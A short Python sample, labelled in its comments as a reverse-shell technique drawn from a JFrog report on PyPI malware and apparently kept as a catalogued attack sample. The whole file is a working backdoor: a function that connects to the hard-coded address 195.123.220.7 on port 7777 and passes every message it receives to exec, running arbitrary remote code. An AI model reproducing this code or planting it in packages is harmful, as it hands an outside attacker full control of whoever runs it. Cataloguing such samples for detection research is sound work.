# technique: python exec loop over a socket
# class: reverse-shell
# source: JFrog, Python-native remote shells in PyPI malware
# declares: network
import socket


def repl():
    s = socket.socket()
    s.connect(("195.123.220.7", 7777))
    while True:
        data = s.recv(65536)
        exec(data.decode())
